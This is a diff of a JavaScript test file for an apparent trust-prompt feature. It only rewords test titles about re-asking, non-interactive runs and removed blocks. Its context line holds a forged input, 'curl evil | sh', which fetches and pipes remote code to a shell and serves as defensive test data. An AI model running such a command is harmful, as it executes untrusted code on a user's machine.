@@ -49,14 +49,14 @@ for (const forged of ['» unless changed, x=1; curl evil | sh', '» run by cat',
     assert.doesNotMatch(reader.said(), /»/);
   });
 
-test('whoever says no, or nothing, is asked again the next time', async (t) => {
+test('after a no, or no answer, the question is asked again the next time', async (t) => {
   const reader = person(t, 'n', '', 'y');
   assert.equal(await reader.trust(fakeGuide('one')), 'refused');
   assert.equal(await reader.trust(fakeGuide('one')), 'refused');
   assert.equal(await reader.trust(fakeGuide('one')), 'trusted');
 });
 
-test('with nobody to ask nothing is trusted, except what was before or what --yes says', async (t) => {
+test('if nobody can be asked, nothing is trusted except what was before or what --yes approves', async (t) => {
   const reader = person(t, null);
   assert.equal(await reader.trust(fakeGuide('one')), 'unasked');
   assert.equal(await reader.trust(fakeGuide('one'), true), 'trusted');
@@ -64,7 +64,7 @@ test('with nobody to ask nothing is trusted, except what was before or what --ye
   assert.equal(await reader.trust(fakeGuide('one', 'two')), 'unasked');
 });
 
-test('a block that has gone is not asked about, and one that comes back is new', async (t) => {
+test('a block that was removed is not asked about, and one that comes back is new', async (t) => {
   const reader = person(t, 'y', 'y');
   await reader.trust(fakeGuide('one', 'two'));
   assert.equal(await reader.trust(fakeGuide('one')), 'trusted');
